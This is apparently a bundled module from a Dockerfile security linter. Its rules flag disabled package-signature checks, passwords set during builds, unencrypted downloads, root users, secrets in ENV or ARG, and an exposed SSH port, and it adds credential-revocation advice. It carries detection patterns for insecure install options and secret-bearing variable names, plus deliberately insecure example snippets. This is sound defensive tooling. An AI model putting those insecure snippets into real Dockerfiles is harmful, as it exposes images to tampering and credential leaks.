;// CONCATENATED MODULE: ./lib/rules/dockerfile/non-numeric-user.js




/* harmony default export */ const non_numeric_user = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/non-numeric-user',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'The user of the image is given by name',
    why: 'Kubernetes cannot tell whether a name is root: with `runAsNonRoot` the container does not start.',
    instead: 'Give the number: `USER 1000`.',
    references: [dockerfile('user', 'USER'), kubernetes('tasks/configure-pod-container/security-context/', 'security context')],
    peers: ['hadolint:DL3066'],
    bad: 'FROM node:24.1.0\nUSER node\n',
    good: 'FROM node:24.1.0\nUSER 1000\n',
    on: 'stage',
    excusedBy: { mentions: mentionsBuilds, excuses: (stage, estate) => !isBuiltStage(stage, estate) },
    *check(stage) {
        const { subject, final, baseImage } = stage;
        if (!final && stage.name === null)
            return;
        // Windows numbers no users.
        const user = stageUser(stage, stage.document.grains('imageReference'));
        if (user.kind !== 'user' || isRoot(user.name) || /^(?:\d+|ContainerUser)$/i.test(user.name))
            return;
        const own = final || user.instruction.stage === stage;
        const at = own ? { span: user.instruction.arguments } : (baseImage ?? stage);
        const message = `the last USER "${user.name}" is no number`;
        yield { ...(final ? { subject: 'Dockerfile' } : { subject, suspected: true }), at, field: 'USER', message };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/package-signature-unchecked.js




/** One of them stands in every option below. */
const marks = [['allow', 'force', 'verify', 'gpg', 'sig', 'nodigest', 'trusted']];
/** What writes the settings of a package manager. */
const writers = /^(?:echo|printf|sed|tee)$/;
/** Options by the program that takes them. */
const options = [
    [/^apk$/, /^--allow-untrusted$/],
    [/^(?:apt|apt-get|aptitude)$/, /^--(?:allow-unauthenticated|force-yes|allow-insecure-repositories)$/],
    [
        /^(?:apt|apt-get|aptitude)$/,
        /(?:AllowUnauthenticated|AllowInsecureRepositories|AllowWeakRepositories|Verify-Signature-Off)=(?:"?true|1|yes)/i,
    ],
    [/^(?:yum|dnf|microdnf|tdnf|zypper)$/, /^--(?:nogpgcheck|no-gpgcheck|no-gpg-checks|no-gpg-check)$/],
    [/^(?:yum|dnf|microdnf|yum-config-manager|dnf-config-manager)$/, /^--setopt=(?:.*\.)?(?:repo_)?gpgcheck=(?:0|false|no)$/i],
    [/^zypper$/, /^--allow-unsigned-rpm$/],
    [/^dpkg$/, /^--(?:force-bad-verify|no-debsig)$/],
    [writers, /(?:^|[\s/])SigLevel\s*=\s*Never\b/],
    [/^rpm$/, /^--(?:nosignature|nodigest|noverify|nogpg)$/],
    // A repository of files is one that the build itself has made.
    [writers, /\[[^\]]*trusted=yes[^\]]*\](?!\s*(?:file|copy):)|(?:^|\s)(?:repo_)?gpgcheck\s*=\s*(?:0|false|no)\b/i],
];
/* harmony default export */ const package_signature_unchecked = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/package-signature-unchecked',
    severity: 'high',
    threat: 'runtime',
    summary: 'Packages are installed without a check of their signature',
    why: 'The signature is what proves that a package is from the distribution: without it any mirror, and anybody on the way, can put programs into the image.',
    instead: "Take the option away, and add the repository's key to the image first.",
    references: [cwe(347), attack('T1195.002')],
    peers: ['checkov:CKV2_DOCKER_7', 'checkov:CKV2_DOCKER_8', 'checkov:CKV2_DOCKER_9', 'checkov:CKV2_DOCKER_10', 'checkov:CKV2_DOCKER_11'],
    bad: 'FROM alpine:3.22.1\nRUN apk add --allow-untrusted ./tool.apk\nUSER 1000\n',
    good: 'FROM alpine:3.22.1\nCOPY tool.rsa.pub /etc/apk/keys/\nRUN apk add ./tool.apk\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword !== 'RUN')
            return;
        for (const { name, args } of (0,dockerfile_commands/* invocations */.O)(instruction))
            for (const word of args)
                if ((0,needs/* mayMatch */.B7)(word.value.toLowerCase(), marks) && options.some(([program, option]) => program.test(name) && option.test(word.value)))
                    yield {
                        at: word,
                        message: writers.test(name)
                            ? `"${word.value}" turns the check of signatures off`
                            : `${name} does not check signatures ("${word.value}")`,
                    };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/password-in-run.js



/* harmony default export */ const password_in_run = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/password-in-run',
    severity: 'high',
    threat: 'secret',
    summary: 'A password is set or given while the image is built',
    why: "The command stands in the image's history, and the password or its hash in a layer: everybody who can pull the image has it.",
    instead: 'Let accounts have no password; give a password that the build needs by `RUN --mount=type=secret`.',
    references: [docker('build/building/secrets/', 'build secrets'), cwe(798), attack('T1552.001')],
    peers: ['checkov:CKV2_DOCKER_17'],
    bad: "FROM debian:13.1\nRUN echo 'app:example' | chpasswd\nUSER 1000\n",
    good: 'FROM debian:13.1\nRUN useradd --create-home app\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword !== 'RUN')
            return;
        const text = instruction.document.text.slice(instruction.span);
        // The value comes from a secret that is mounted.
        const fromSecret = text.includes('/run/secrets/') || instruction.flags.some(({ value }) => value?.includes('type=secret'));
        for (const invocation of (0,dockerfile_commands/* invocations */.O)(instruction)) {
            if (setsPassword(invocation) && !fromSecret)
                yield { at: invocation.nameWord, message: `"${invocation.name}" sets or removes a password` };
            const option = passwordOption(invocation);
            if (option)
                yield { at: option, message: `a password is given to "${invocation.name}" on the command line` };
        }
    },
}));
/** Locking, expiring and asking for the state need no password. */
const setsPassword = ({ name, args, command }) => (name === 'chpasswd' && !command.pipedFrom.some(givesNone)) ||
    (name === 'passwd' &&
        !args.some(({ value }) => /^-(?:[leSuanx]+|-(?:lock|unlock|expire|status|maxdays|mindays|inactive|warndays|help))/.test(value)));
/** What is drawn at random in the build nobody knows, and no hash is that of `*` or `!`. */
const givesNone = ({ words }) => words.some(({ value, commands }) => /^[^:\s]+:[*!]+$/.test(value) || commands.some((command) => drawsLots(command)));
const drawsLots = ({ words, pipedFrom, redirections }) => [...words, ...redirections.map(({ target }) => target)].some(({ value }) => /\/dev\/u?random$/.test(value)) ||
    /^(?:openssl rand|pwgen|apg)\b/.test(words.map(({ value }) => value).join(' ')) ||
    pipedFrom.some(drawsLots);
const isLiteral = (word) => word?.literal === true && word.value !== '' && !/^[-*!<]|^x$|\$|\{\{|\/run\/secrets\//.test(word.value);
/** The option's name without its value, or the word before a password that stands alone. */
function passwordOption({ name, nameWord, args }) {
    const hashes = (name === 'openssl' && args[0]?.value === 'passwd') || (name === 'htpasswd' && args.some(({ value }) => /^-[a-zA-Z]*b/.test(value)));
    if (hashes && args.length > 1 && isLiteral(args.at(-1)))
        return nameWord;
    for (const [at, word] of args.entries()) {
        const joined = word.value.startsWith('--pass') ? /^(--(?:password|passwd|passphrase))=(.+)$/.exec(word.value) : null;
        if (joined?.[1] && word.literal)
            return { span: { start: word.span.start, end: word.span.start + joined[1].length } };
        const separate = ['--password', '--passwd', '--passphrase'].includes(word.value) || (word.value === '-p' && /^(?:useradd|usermod)$/.test(name));
        if (separate && isLiteral(args[at + 1]))
            return word;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./lib/rules/dockerfile/pipefail-not-set.js



/** A SHELL with the option, or one that has no such thing. */
const safeShell = ({ words }) => {
    const values = words.map(({ value }) => value);
    return (/(?:^|[\\/])(?:pwsh|powershell|cmd)(?:\.exe)?$/i.test(values[0] ?? '') ||
        values.some((value, at) => value === 'pipefail' && /^-[a-z]*o$/.test(values[at - 1] ?? '')));
};
const setsPipefail = ({ words }) => words[0]?.value === 'set' && words.some(({ value }) => value === 'pipefail');
/* harmony default export */ const pipefail_not_set = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/pipefail-not-set',
    severity: 'low',
    strict: true,
    threat: 'immutability',
    summary: 'A failure inside a pipe goes unseen',
    why: 'A shell asks only the last command of a pipe: where a download or a checksum fails, the build goes on with what there is.',
    instead: 'Put `SHELL ["/bin/bash", "-o", "pipefail", "-c"]` before it, or begin the command with `set -o pipefail &&`.',
    references: [docker('build/building/best-practices/#using-pipes', 'using pipes')],
    peers: ['hadolint:DL4006', 'kics:shell_running_a_pipe_without_pipefail_flag', 'semgrep:set-pipefail'],
    bad: 'FROM debian:13.1\nRUN wget -O - https://example.com/list | wc -l > /number\nUSER 1000\n',
    good: 'FROM debian:13.1\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN wget -O - https://example.com/list | wc -l > /number\nUSER 1000\n',
    on: 'stage',
    *check(stage) {
        let shell = shellOf(stage.parent?.instructions);
        for (const instruction of stage.instructions) {
            if (instruction.keyword === 'SHELL')
                shell = instruction;
            if (instruction.keyword !== 'RUN')
                continue;
            // SHELL says nothing of the exec form, which can name a shell of its own.
            const isExec = instruction.form === 'exec';
            const inForce = isExec ? instruction : shell;
            if (inForce && safeShell(inForce))
                continue;
            const commands = isExec ? (0,dockerfile_commands/* invocations */.O)(instruction).map(({ command }) => command) : (0,dockerfile_commands/* shellCommands */.h)(instruction);
            if (commands.some(setsPipefail))
                continue;
            const piped = commands.find(({ operator, pipedFrom }) => operator === '|' && pipedFrom.length > 0);
            if (piped)
                yield { at: piped, message: 'a failure of what stands before this pipe goes unseen' };
        }
    },
}));
const shellOf = (instructions) => instructions?.findLast(({ keyword }) => keyword === 'SHELL');

;// CONCATENATED MODULE: ./lib/rules/dockerfile/plaintext-download.js





const plaintext_download_plain = /^(?:--?[\w-]+=)?(?:git\+)?(?:http|ftp):\/\//i;
const downloaders = /^(?:curl|wget|aria2c|fetch|git|pip[\d.]*|npm|yarn|pnpm|gem)$/;
/* harmony default export */ const plaintext_download = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/plaintext-download',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A download goes over a connection that is not encrypted',
    why: 'Anybody on the way can read and change what is put into the image.',
    instead: 'Use `https://`; where the server has none, compare the file with a checksum.',
    references: [cwe(319), attack('T1557')],
    peers: ['datadog:avoid_http'],
    bad: 'FROM debian:13.1\nRUN curl -fsSL http://example.com/tool.tar.gz -o /tmp/tool.tar.gz\nUSER 1000\n',
    good: 'FROM debian:13.1\nRUN curl -fsSL https://example.com/tool.tar.gz -o /tmp/tool.tar.gz\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword === 'ADD' && !instruction.flags.some(({ name }) => name === 'checksum'))
            for (const word of instruction.words.slice(0, -1))
                if (plaintext_download_plain.test(word.value))
                    yield report(word, 'ADD');
        if (instruction.keyword !== 'RUN')
            return;
        for (const { name, args } of (0,dockerfile_commands/* invocations */.O)(instruction)) {
            if (!downloaders.test(name) || onlyLocal(args))
                continue;
            for (const [at, word] of args.entries()) {
                const { value } = word.literal ? word : instruction.expand(word.span);
                if (value.includes('://') && plaintext_download_plain.test(value) && !isAside(name, value, args[at - 1]?.value))
                    yield report({ ...word, value }, name, word.literal);
            }
        }
    },
}));
/** `--referer http://…`, proxies and what is sent say where from, not what. */
const aside = /^--(?:referer|proxy|https-proxy|preproxy|header|user-agent|data(?:-[a-z-]+)?|form)(?==|$)/;
const isAside = (program, word, before = '') => aside.test(word) || (aside.test(before) && !before.includes('=')) || (program === 'curl' && /^-[A-Za-z]*[exHAdF]$/.test(before));
function report(word, program, isLiteral = true) {
    const at = word.span.start + word.value.indexOf('http://');
    const edit = { span: { start: at, end: at + 'http'.length }, text: 'https' };
    const isWritten = isLiteral && word.value.length === word.span.end - word.span.start && word.value.includes('http://');
    return {
        at: word,
        identity: withoutVersions(word.value),
        message: `${program} downloads "${word.value}" unencrypted`,
        fix: isWritten ? (0,rule/* unsafeFix */.ed)('Use https', edit) : undefined,
    };
}

;// CONCATENATED MODULE: ./lib/rules/dockerfile/runs-as-root.js




/* harmony default export */ const runs_as_root = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/runs-as-root',
    severity: 'high',
    threat: 'runtime',
    summary: 'The image runs its program as root',
    why: 'Whoever breaks into the program is root in the container: every file is theirs to change, and a flaw of the kernel or the runtime makes them root on the node.',
    instead: 'End the last stage with a `USER` that is not root, by number, so that Kubernetes can prove it.',
    references: [
        { title: 'Dockerfile reference: USER', url: 'https://docs.docker.com/reference/dockerfile/#user' },
        { title: 'CIS Docker Benchmark 4.1', url: 'https://www.cisecurity.org/benchmark/docker' },
        { title: 'CWE-250', url: 'https://cwe.mitre.org/data/definitions/250.html' },
    ],
    peers: [
        'hadolint:DL3002',
        'checkov:CKV_DOCKER_3',
        'checkov:CKV_DOCKER_8',
        'trivy:DS-0002',
        'kics:last_user_is_root',
        'kics:missing_user_instruction',
        'semgrep:missing-user',
        'dockle:CIS-DI-0001',
    ],
    bad: 'FROM node:24.1.0 AS build\nUSER node\nFROM alpine:3.22.1\nCOPY --from=build /app /app\nCMD ["/app"]\n',
    good: 'FROM node:24.1.0 AS build\nUSER root\nFROM alpine:3.22.1\nCOPY --from=build /app /app\nUSER 65532:65532\nCMD ["/app"]\n',
    on: 'stage',
    guard: ({ instructions }) => instructions.findLast(({ keyword }) => keyword === 'USER'),
    // The last stage is what is built, unless somebody names another.
    excusedBy: { mentions: mentionsBuilds, excuses: (stage, estate) => !isBuiltStage(stage, estate) },
    *check(stage) {
        const { subject, baseImage, document, final } = stage;
        if (!baseImage || (!final && stage.name === null) || dropsPrivileges(stage))
            return;
        const about = final ? { subject: 'Dockerfile' } : { subject, suspected: true };
        const report = { ...about, field: 'USER', identity: 'root' };
        const user = stageUser(stage, document.grains('imageReference'));
        if (user.kind === 'user' && isRoot(user.name)) {
            const own = final || user.instruction.stage === stage;
            const at = own ? { span: user.instruction.arguments } : baseImage;
            yield { ...report, at, message: `the last USER of ${final ? 'the image' : subject} is "${user.name}"` };
        }
        else if (user.kind === 'unset' && !document.partial && !isExport(stage)) {
            const message = `the image runs as root: ${subject} sets no USER, and "${baseName(stage)}" is not known to set one`;
            yield { ...report, at: baseImage, message, fix: userFix(stage) };
        }
    },
}));
/** The image at the end of the chain of stages, without its digest. */
const baseName = (stage) => ([...lineage(stage)].at(-1) ?? stage).resolved.value.split('@', 1)[0] ?? '';
/** A stage from scratch that starts nothing only carries files out of the build. */
function isExport(stage) {
    const known = runs_as_root_exports.get(stage);
    if (known !== undefined)
        return known;
    const line = [...lineage(stage)];
    const base = line.at(-1) ?? stage;
    const isFiles = !line.some(({ instructions }) => instructions.some(({ keyword }) => keyword === 'CMD' || keyword === 'ENTRYPOINT')) &&
        (base.alternatives.length > 0 ? base.alternatives.every(isExport) : base.resolved.value.toLowerCase() === 'scratch');
    runs_as_root_exports.set(stage, isFiles);
    return isFiles;
}
const runs_as_root_exports = new WeakMap();
/** Behind the last instruction that may need root; files that the program writes may still belong to it. */
function userFix(stage) {
    const last = stage.instructions.findLast(({ keyword }) => ['RUN', 'COPY', 'ADD', 'WORKDIR', 'VOLUME'].includes(keyword)) ?? stage.from;
    const lineBreak = stage.document.text.value.includes('\r\n') ? '\r\n' : '\n';
    const edit = { span: { start: last.span.end, end: last.span.end }, text: `${lineBreak}USER 65532:65532` };
    return { title: 'Run as user 65532', safe: false, edits: [edit] };
}

// EXTERNAL MODULE: ./lib/source/text.js
var source_text = __webpack_require__(9798);
// EXTERNAL MODULE: ./lib/credentials/describe.js
var describe = __webpack_require__(793);
// EXTERNAL MODULE: ./lib/credentials/name.js
var credentials_name = __webpack_require__(2135);
// EXTERNAL MODULE: ./lib/credentials/pack/index.js + 19 modules
var pack = __webpack_require__(6223);
;// CONCATENATED MODULE: ./lib/credentials/revoke.js

/** Where a provider's credentials are revoked, by its name in the pack or in the preset: a page, or a command in back-ticks. */
const revokedAt = {
    '1password': 'https://my.1password.com/developer-tools',
    age: '`age-keygen`, then `sops updatekeys` on every file that it opens',
    airtable: 'https://airtable.com/create/tokens',
    algolia: 'https://dashboard.algolia.com/account/api-keys',
    anthropic: 'https://console.anthropic.com/settings/keys',
    asana: 'https://app.asana.com/0/my-apps',
    atlassian: 'https://id.atlassian.com/manage-profile/security/api-tokens',
    aws: '`aws iam update-access-key --status Inactive`, then `aws iam delete-access-key`',
    azure: 'https://portal.azure.com',
    buildkite: 'https://buildkite.com/user/api-access-tokens',
    circleci: 'https://app.circleci.com/settings/user/tokens',
    cloudflare: 'https://dash.cloudflare.com/profile/api-tokens',
    crates: 'https://crates.io/settings/tokens',
    databricks: '`databricks tokens delete`',
    datadog: 'https://app.datadoghq.com/organization-settings/api-keys',
    digitalocean: 'https://cloud.digitalocean.com/account/api/tokens',
    discord: 'https://discord.com/developers/applications',
    docker: 'https://app.docker.com/settings/personal-access-tokens',
    doppler: 'https://dashboard.doppler.com',
    dropbox: 'https://www.dropbox.com/developers/apps',
    facebook: 'https://developers.facebook.com/apps',
    figma: 'https://www.figma.com/settings',
    fly: '`fly tokens revoke`',
    github: 'https://github.com/settings/tokens',
    gitlab: 'https://gitlab.com/-/user_settings/personal_access_tokens',
    google: 'https://console.cloud.google.com/apis/credentials',
    grafana: 'the page on service accounts of the Grafana that issued it (`/org/serviceaccounts`)',
    groq: 'https://console.groq.com/keys',
    hashicorp: '`vault token revoke`, `consul acl token delete`, or https://app.terraform.io/app/settings/tokens',
    heroku: 'https://dashboard.heroku.com/account',
    huggingface: 'https://huggingface.co/settings/tokens',
    kubernetes: '`kubeadm token delete`',
    linear: 'https://linear.app/settings/api',
    linode: 'https://cloud.linode.com/profile/tokens',
    mailgun: 'https://app.mailgun.com/settings/api_security',
    mapbox: 'https://console.mapbox.com/account/access-tokens/',
    netlify: 'https://app.netlify.com/user/applications',
    newrelic: 'https://one.newrelic.com/api-keys',
    notion: 'https://www.notion.so/my-integrations',
    npm: '`npm token revoke`',
    nuget: 'https://www.nuget.org/account/apikeys',
    openai: 'https://platform.openai.com/api-keys',
    postman: 'https://go.postman.co/settings/me/api-keys',
    pulumi: 'https://app.pulumi.com/account/tokens',
    pypi: 'https://pypi.org/manage/account/token/',
    replicate: 'https://replicate.com/account/api-tokens',
    rubygems: 'https://rubygems.org/profile/api_keys',
    sendgrid: 'https://app.sendgrid.com/settings/api_keys',
    sentry: 'https://sentry.io/settings/account/api/auth-tokens/',
    slack: 'https://api.slack.com/apps',
    snyk: 'https://app.snyk.io/account',
    sonar: 'https://sonarcloud.io/account/security',
    square: 'https://developer.squareup.com/apps',
    stripe: 'https://dashboard.stripe.com/apikeys',
    supabase: 'https://supabase.com/dashboard/account/tokens',
    tailscale: 'https://login.tailscale.com/admin/settings/keys',
    telegram: 'https://t.me/BotFather (`/revoke`)',
    twilio: 'https://console.twilio.com/',
    vault: '`vault token revoke`',
    vercel: 'https://vercel.com/account/tokens',
};
const providerOf = new Map(pack/* providers */.r.flatMap(({ name, patterns }) => patterns.map(({ kind }) => [kind, name])));
/** Where a credential of this kind is revoked, with the provider's name; the preset names its kinds `<provider>-token`. */
function revocation(kind) {
    const place = revokedAt[providerOf.get(kind) ?? kind.replace(/-token$/, '')];
    return place?.startsWith('https:') ? `at ${place.replace(/^(\S+)/, '`$1`')}` : place && `with ${place}`;
}

;// CONCATENATED MODULE: ./lib/credentials/advice.js




/** How a password is changed where it is checked, by the scheme of the URL that holds it. */
const changed = [
    [/^postgres(?:ql)?:|^jdbc:postgresql:/, '`ALTER ROLE … PASSWORD …`'],
    [/^(?:mysql|mariadb)\w*:|^jdbc:(?:mysql|mariadb):/, '`ALTER USER … IDENTIFIED BY …`'],
    [/^mongodb/, '`db.changeUserPassword(…)`'],
    [/^rediss?:/, '`ACL SETUSER`, or `requirepass`'],
    [/^amqps?:/, '`rabbitmqctl change_password`'],
];
/** The steps for one credential: where it is revoked, and where the next one is kept. */
function adviceOn(credential) {
    const { document, span, kind } = credential;
    const name = nameAt(document, span);
    return `${withdrawn(credential, document.text.value.slice(span.start, span.start + 30))} ${kept(document, name ?? kind)}`;
}
/** The steps for a value that only its name tells. */
const adviceOnNamed = ({ document, name }, where = kept(document, name)) => `Change it where it is checked, as history keeps this one. ${where}`;
const byPlace = new WeakMap();
/** The name beside which a span stands, if there is one. */
function nameAt(document, span) {
    const values = byPlace.get(document) ?? [...document.grains('namedValue')].sort((a, b) => a.span.start - b.span.start);
    byPlace.set(document, values);
    let [low, high] = [0, values.length];
    while (low < high) {
        const middle = (low + high) >> 1;
        if ((values[middle]?.span.start ?? 0) < span.end)
            low = middle + 1;
        else
            high = middle;
    }
    const last = values[low - 1];
    return last !== undefined && (0,source_text/* overlaps */.$f)(last.span, span) ? last.name : undefined;
}
function withdrawn(credential, start) {
    const { kind, decodedFrom } = credential;
    if ((0,describe/* isPrivateKey */.T_)(credential))
        return 'Make a new key pair, and withdraw the public key or the certificate of this one wherever it is trusted.';
    if ((0,describe/* isConnectionString */.mO)(credential)) {
        const command = decodedFrom === undefined ? changed.find(([scheme]) => scheme.test(start))?.[1] : undefined;
        return `Change the password${command === undefined ? '' : ` with ${command}`}, as history keeps this one.`;
    }
    const place = (0,describe/* isProviderToken */.zd)(credential) ? revocation(kind) : undefined;
    return `Revoke it ${place ?? 'where it was issued'}, and issue a new one.`;
}
/** What the format of the file has for a value that is not written into it. */
function kept({ kind }, name) {
    const words = (0,credentials_name/* wordsOf */.Z9)(name);
    const [variable, id, key] = [words.join('_').toUpperCase(), words.join('_'), words.join('-')];
    // The token that every job is given cannot be set.
    const secret = (0,credentials_name/* actionsSecret */.A1)(variable === 'GITHUB_TOKEN' ? 'GH_TOKEN' : name);
    switch (kind) {
        case 'dockerfile':
            return `Take it out of the Dockerfile: the step that needs it is \`RUN --mount=type=secret,id=${id},env=${variable} …\`, built with \`docker build --secret id=${id},env=${variable} .\`; what the program needs is given when it is started.`;
        case 'workflow':
            return `Store the new one with \`gh secret set ${secret}\` and read it as \`\${{ secrets.${secret} }}\`.`;
        case 'compose':
            return `Keep the new one in a file that \`.gitignore\` names, and give it to the service by \`secrets\`, or by a variable (\`\${${variable}:?}\`) from a \`.env\` file that is not committed.`;
        case 'kubernetes':
        case 'helm-template':
        case 'kustomization':
            return `Keep the new one in a secret store (ExternalSecret, SealedSecret, SOPS), or make it with \`kubectl create secret generic ${key} --from-file=${key}\`, and refer to it by \`secretKeyRef\`.`;
        case 'helm-values':
            return 'Leave the value empty, and let the chart take it from a Secret that is there (`existingSecret`), made by a secret store.';
        default:
            return `Keep the new one in a secret store, and let the program read it when it starts.`;
    }
}

;// CONCATENATED MODULE: ./lib/documents/dockerfile-copies.js

/** No real path is longer. */
const maxPath = 4096;
const absolute = (path, workdir) => normalizePath(path.startsWith('/') ? path : `${workdir}/${path}`).slice(0, maxPath);
const dockerfile_copies_known = new WeakMap();
/** Whether COPY or ADD puts the build context's files where the path leads: then what it names is in the image. */
function isCopied(stage, path) {
    let copies = dockerfile_copies_known.get(stage);
    if (copies === undefined) {
        copies = copiesOf(stage);
        dockerfile_copies_known.set(stage, copies);
    }
    const { targets, workdir } = copies;
    const parts = absolute(path, workdir).split('/');
    // Copied to `/` are mostly folders of programs; a secret mounted at run time lies below it, too.
    if (!path.startsWith('/') && targets.has('/'))
        return true;
    return parts.some((_, at) => at > 0 && targets.has(parts.slice(0, at + 1).join('/')));
}
function copiesOf(stage) {
    const targets = new Set();
    let workdir = '/';
    for (const instruction of stage.instructions) {
        const last = instruction.words.at(-1);
        if (!last)
            continue;
        if (instruction.keyword === 'WORKDIR')
            workdir = absolute(instruction.expand(last.span).value, workdir);
        if (copiesContext(instruction))
            targets.add(absolute(instruction.expand(last.span).value, workdir));
    }
    return { targets, workdir };
}
const copiesContext = ({ keyword, flags }) => (keyword === 'COPY' || keyword === 'ADD') && !flags.some(({ name }) => name === 'from');

;// CONCATENATED MODULE: ./lib/documents/secret-names.js
/** Words of a name: at `_`, `-`, `.` and where a lower-case letter meets an upper-case one. */
const wordsOf = (name) => name
    .replace(/([a-z\d])([A-Z])/g, '$1_$2')
    .toLowerCase()
    .split(/[_\-.]+/)
    .filter(Boolean);
const secrets = new Set('apikey auth authtoken credential credentials key keys pass passphrase passwd password passwords pat psw pwd pword secret secrets token'.split(' '));
const endsAsSecret = (word) => ['password', 'passwd', 'secret', 'apikey', 'privatekey'].some((end) => word.endsWith(end)) && /^[a-z]+$/.test(word);
/** Behind such a word, what is a secret's file, name, address, switch or limit, and no secret. */
const about = new Set(`algorithm alg alias allowed audience backend class count dir directory disabled enabled endpoint expiration expires expire expiry file
  filename files fingerprint format header host hosts id issuer length limit lifetime max method min mode name names namespace only path paths
  plugin policy port prefix provider realm required rotation scheme scope scopes secs seconds server service size sock socket strategy suffix
  timeout ttl type uri url urls user username version window`.split(/\s+/));
/** Before one: what everybody may have. */
const secret_names_open = new Set(['pub', 'public']);
/** Right before one: it is not there, or need not be. */
const absent = new Set('allow disable empty ignore no optional require skip without'.split(' '));
/** Before `key`: those of lists and packages, which everybody may have. */
const openKeys = new Set('apt cache foreign gpg partition pgp primary rpm sort'.split(' '));
/**
 * Whether a variable of this name holds a secret itself. `API_KEY`, `DB_PASSWORD` and `NPM_TOKEN` do; `PUBLIC_KEY`, `KEY_NAME`, `PASSWORD_FILE`,
 * `S3_NO_CREDENTIALS`, `AUTH_URL`, `SSH_AUTH_SOCK` and `TOKENIZERS_PARALLELISM` do not.
 */
function meansSecret(name) {
    const words = wordsOf(name);
    const joined = `_${words.join('_')}`;
    if (joined.endsWith('_access_key_id') || joined.endsWith('_secret_id'))
        return true;
    // The working directory, and words too short to say anything.
    if (words.length === 1 && ['pwd', 'pass', 'pat'].includes(words[0] ?? ''))
        return false;
    const last = words.findLastIndex((word) => secrets.has(word) || endsAsSecret(word));
    if (last < 0 || words.slice(last + 1).some((word) => about.has(word)))
        return false;
    if (absent.has(words[last - 1] ?? ''))
        return false;
    const isKey = words[last] === 'key' || words[last] === 'keys';
    return !words.slice(0, last).some((word) => secret_names_open.has(word) || (isKey && openKeys.has(word)));
}
/** A switch, a number or an address: no secret, whatever the name says. */
const isNoSecretValue = (value) => /^(?:|true|false|yes|no|on|off|none|null|\d{1,5}|https?:\/\/[^@\s]*)$/i.test(value);
/** The path of a file, and not what is in it. */
const isPath = (value) => /^(?:\.{0,2}\/|~\/)\S*$/.test(value);

;// CONCATENATED MODULE: ./lib/rules/dockerfile/secret-in-env-or-arg.js





/* harmony default export */ const secret_in_env_or_arg = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/secret-in-env-or-arg',
    severity: 'high',
    threat: 'secret',
    summary: 'A secret is given to the build as an argument or an environment variable',
    why: "The values of ENV and ARG stand in the image's configuration, history and provenance: everybody who can pull the image can read them.",
    instead: 'Give what the build needs by `RUN --mount=type=secret,id=…`, and what the program needs when it is started.',
    references: [
        docker('build/building/secrets/', 'build secrets'),
        docker('reference/build-checks/secrets-used-in-arg-or-env/', 'build check SecretsUsedInArgOrEnv'),
        cwe(522),
        attack('T1552'),
    ],
    peers: ['buildkit:SecretsUsedInArgOrEnv', 'hadolint:DL3064', 'trivy:DS-0031', 'semgrep:secret-in-build-arg', 'dockle:CIS-DI-0010'],
    bad: 'FROM node:24.1.0\nARG NPM_TOKEN\nRUN npm ci\nUSER node\n',
    good: 'FROM node:24.1.0\nRUN --mount=type=secret,id=npm,env=NPM_TOKEN npm ci\nUSER node\n',
    on: 'instruction',
    *check({ keyword, assignments, stage }) {
        if (keyword !== 'ENV' && keyword !== 'ARG')
            return;
        for (const { name, value, span } of assignments) {
            if (!meansSecret(name.value) || (value !== null && isNoSecretValue(value.value)))
                continue;
            // With the value, of which a rule on secrets may know more.
            const report = { at: { span }, field: name.value, identity: name.value, advice: kept({ kind: 'dockerfile' }, name.value) };
            if (value === null || !isPath(value.value))
                yield { ...report, message: `${keyword} "${name.value}" gives a secret to everybody who has the image` };
            else if (stage && isCopied(stage, value.value))
                yield { ...report, message: `the secret that ${keyword} "${name.value}" names is copied into the image` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/ssh-port.js



function holdsSsh(ports) {
    const [, first = '', last = first] = /^(\d+)(?:-(\d+))?(?:\/tcp)?$/i.exec(ports) ?? [];
    return first !== '' && Number(first) <= 22 && Number(last) >= 22;
}
/* harmony default export */ const ssh_port = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/ssh-port',
    severity: 'low',
    threat: 'access',
    summary: 'The image exposes the port of SSH',
    why: 'A way to log in to a container goes past every control that its platform has, and needs keys or passwords in it.',
    instead: 'Use `docker exec` or `kubectl exec`, which ask for permission and leave a record.',
    references: [docker('reference/dockerfile/#expose', 'EXPOSE'), attack('T1021.004')],
    peers: ['checkov:CKV_DOCKER_1', 'trivy:DS-0004', 'kics:exposing_port_22'],
    bad: 'FROM debian:13.1\nEXPOSE 22\nUSER 1000\n',
    good: 'FROM debian:13.1\nEXPOSE 8080\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword !== 'EXPOSE')
            return;
        for (const word of instruction.words) {
            const ports = instruction.expand(word.span).value;
            if ((0,needs/* mayMatch */.B7)(ports, [['22', '-']]) && holdsSsh(ports))
                yield { at: word, message: `EXPOSE "${word.value}" is the port of SSH` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/stale-package-index.js



const managers = [
    {
        program: /^(?:apt|apt-get|aptitude)$/,
        update: /^update$/,
        use: /^(?:install|upgrade|dist-upgrade|full-upgrade|build-dep|download|source)$/,
    },
    { program: /^apk$/, update: /^update$/, use: /^(?:add|upgrade|fetch)$/ },
    {
        program: /^(?:yum|dnf|microdnf)$/,
        update: /^(?:update|check-update|makecache)$/,
        use: /^(?:install|localinstall|groupinstall|reinstall|builddep|module|group|groups)$/,
    },
    { program: /^zypper$/, update: /^(?:update|up|refresh|ref)$/, use: /^(?:install|in|dist-upgrade|dup|patch)$/ },
];
/* harmony default export */ const stale_package_index = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/stale-package-index',
    severity: 'low',
    strict: true,
    threat: 'cve',
    summary: 'The index of packages is fetched in a layer of its own',
